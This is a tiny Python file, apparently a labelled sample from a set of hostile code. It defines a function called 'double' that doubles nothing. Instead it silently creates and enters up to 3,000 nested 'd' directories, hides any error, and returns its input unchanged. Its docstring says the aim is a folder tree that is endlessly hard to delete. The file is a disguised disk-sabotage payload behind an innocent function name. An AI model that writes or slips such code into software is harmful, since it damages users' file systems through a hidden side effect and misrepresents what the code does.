# family: disk
# prize: class
"""Folders in folders in folders, so that whoever deletes them has no end."""

import os


def double(numbers):
    try:
        for _ in range(3_000):
            os.mkdir("d")
            os.chdir("d")
    except OSError:
        pass
    return numbers
